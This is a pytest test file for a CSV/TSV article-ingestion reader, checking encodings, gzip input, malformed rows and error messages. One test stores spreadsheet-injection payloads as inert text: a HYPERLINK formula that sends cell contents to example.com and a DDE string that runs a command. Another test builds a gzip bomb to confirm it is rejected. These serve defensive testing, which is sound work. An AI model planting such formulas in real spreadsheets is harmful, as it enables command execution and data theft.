import csv
import gzip
import io
from collections.abc import Sequence
from datetime import date
from pathlib import Path

import pytest

from ingest.article import read_article
from ingest.document import Entry, FieldNames, Rejected
from ingest.pipeline import ingest
from ingest.readers import reader_of
from ingest.readers.options import ReadOptions
from rag.errors import ReadError
from rag.fakes import HashEmbedder
from rag.library import Library
from rag.settings import Settings
from rag.types import Article

SAID = 'The dam, "safe" until Sunday; failed on Monday.\n\nNobody was hurt.'
ROWS = (
    ("title", "text", "date", "publisher", "url"),
    ("Dam fails", SAID, "2025-03-24", "Lake Post", "https://example.com/dam"),
    ("", "", "", "", ""),
    ("Bridge", "The bridge is closed, the mayor said.", "", "", ""),
)


def table(rows: Sequence[Sequence[str]] = ROWS, **form: str) -> str:
    file = io.StringIO()
    csv.writer(file, **form).writerows(rows)  # type: ignore[arg-type]
    return file.getvalue()


def found(
    folder: Path, name: str, content: str | bytes, fields: FieldNames | None = None
) -> list[Entry | Rejected]:
    path = folder / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return list(reader_of(path)(path, ReadOptions(1 << 20, fields or FieldNames())))


def articles(entries: list[Entry | Rejected]) -> list[Article]:
    return [read_article(one.parse()).article for one in entries if isinstance(one, Entry)]


def reasons(entries: list[Entry | Rejected]) -> list[str]:
    return [one.reason for one in entries if isinstance(one, Rejected)]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.csv", table()),
        ("a.csv", table(delimiter=";")),
        ("a.tsv", table(delimiter="\t")),
        ("a.csv", "\ufeff" + table(lineterminator="\n")),
        ("a.csv.gz", gzip.compress(table().encode())),
        ("a.tsv.gz", gzip.compress(table(delimiter="\t").encode())),
    ],
)
def test_each_row_is_an_article(name: str, content: str | bytes, tmp_path: Path) -> None:
    entries = found(tmp_path, name, content)
    dam, bridge = articles(entries)
    assert [one.source for one in entries] == [
        "https://example.com/dam",
        f"{tmp_path / name}#Bridge",
    ]
    assert (dam.title, dam.publisher, dam.published) == (
        "Dam fails",
        "Lake Post",
        date(2025, 3, 24),
    )
    assert dam.text == SAID
    assert bridge.text == "The bridge is closed, the mayor said."


def test_columns_of_other_names(tmp_path: Path) -> None:
    content = "Überschrift,Bericht\nDamm bricht,Der Damm ist am Montag gebrochen.\n"
    (article,) = articles(
        found(tmp_path, "a.csv", content, FieldNames(title="Überschrift", text="Bericht"))
    )
    assert (article.title, article.text) == ("Damm bricht", "Der Damm ist am Montag gebrochen.")


def test_a_legacy_encoding(tmp_path: Path) -> None:
    text = (
        "Die Brücke über den Fluss wurde am Montag geöffnet. Der Bürgermeister sagte, die Stadt "
        "habe für die Arbeiten zwölf Millionen Euro ausgegeben."
    )
    content = f"title;text\nBrücke;{text}\nStraße;Die Straße bleibt für den Verkehr gesperrt.\n"
    first, _ = articles(found(tmp_path, "a.csv", content.encode("cp1252")))
    assert first.text == text


def test_a_bad_byte_costs_its_letter(tmp_path: Path) -> None:
    content = (
        "title,text\nOne,Das Café ist zu.\n".encode()
        + b"Two,Das Caf\xe9 ist \xc3\xbcberf\xc3\xbcllt.\n"
    )
    assert [one.text for one in articles(found(tmp_path, "a.csv", content))] == [
        "Das Café ist zu.",
        "Das Caf\ufffd ist überfüllt.",
    ]


def test_letters_that_come_late_tell_the_encoding(tmp_path: Path) -> None:
    rows = "".join(f"{n},{'The dam failed on Monday. ' * 40}\n" for n in range(300))
    content = f"title,text\n{rows}Last,The mayor’s office said it didn’t know of any danger.\n"
    (last,) = articles(found(tmp_path, "a.csv", content.encode("cp1252"))[-1:])
    assert last.text == "The mayor’s office said it didn’t know of any danger."


def test_a_formula_is_words_like_others(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://example.com/?"&A1,"The dam failed on Monday.")'
    command = "@SUM(1+1)*cmd|' /C calc'!A0 is what the cell says."
    rows = (("title", "text"), ("One", formula), ("Two", command))
    one, two = articles(found(tmp_path, "a.csv", table(rows)))
    assert one.text == formula
    assert two.text == command


def test_a_bad_row_is_rejected_and_the_rest_goes_in(tmp_path: Path) -> None:
    content = (
        "title,text\nOne,Мост снова открыт для всех.\nTwo,\nThree,The dam, it failed.\n".encode()
        + b"Four,\xd4\xee\xf0\xf3\xec \xe7\xe0\xea\xf0\xfb\xf2.\nFive,"
        + b"x" * (2 << 20)
        + b"\nSix,The bridge fell.\n"
    )
    entries = found(tmp_path, "a.csv", content)
    assert [article.text for article in articles(entries)] == [
        "Мост снова открыт для всех.",
        "The bridge fell.",
    ]
    two, three, four, five = reasons(entries)
    assert "no text" in two
    assert "3 cells where there are 2 columns" in three
    assert "line 5 is not in utf-8" in four
    assert "larger than 1 MiB" in five
    assert f"{tmp_path / 'a.csv'}#row 4" in {one.source for one in entries}


BAD = {
    "empty": (b"\n", "empty"),
    "without names": (b"Dam,The dam failed.\n", "no column is named text"),
    "without rows": (b"title,text\n", "no row in it"),
    "of empty rows": (b"title,text\n,\n,,,\n", "no row in it"),
    "a workbook": (b"PK\x03\x04" + b"x" * 99, "ZIP or Office file"),
    "many columns": (b"text" + b",a" * 5000 + b"\nThe dam failed.\n", "no column is named"),
    "no end": (b'text\n"The dam failed.\n' + b"x\n" * (1 << 20), "no end"),
}


@pytest.mark.parametrize("name", BAD)
def test_a_bad_table_says_why(name: str, tmp_path: Path) -> None:
    raw, what = BAD[name]
    with pytest.raises(ReadError) as caught:
        found(tmp_path, "a.csv", raw)
    assert what in caught.value.what
    assert caught.value.next


def test_what_came_before_the_damage_is_in(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_bytes(b'text\nThe dam failed.\n"The bridge\n' + b"x\n" * (1 << 20))
    rows = reader_of(path)(path, ReadOptions(1 << 20))
    assert len(articles([next(rows)])) == 1
    with pytest.raises(ReadError, match="the row in line 3 has no end"):
        next(rows)


def test_a_compressed_bomb(tmp_path: Path) -> None:
    raw = gzip.compress(b"text\n" + (b" " * 999 + b"\n") * 90_000)
    with pytest.raises(ReadError, match="grows more than 200 times"):
        found(tmp_path, "a.csv.gz", raw)


def test_columns_that_are_not_used_stand_in_the_report(
    library: Library, settings: Settings, tmp_path: Path
) -> None:
    path = tmp_path / "a.csv"
    path.write_text("Titel;Text;Ressort\nDamm;Der Damm ist am Montag gebrochen.;Lokales\n")
    for status in ("added", "unchanged"):
        report = ingest([path], library, HashEmbedder(), settings=settings)
        assert report.count(status) == 1  # type: ignore[arg-type]
        assert report.notes == ("Columns of a.csv that are not used: Ressort.",)
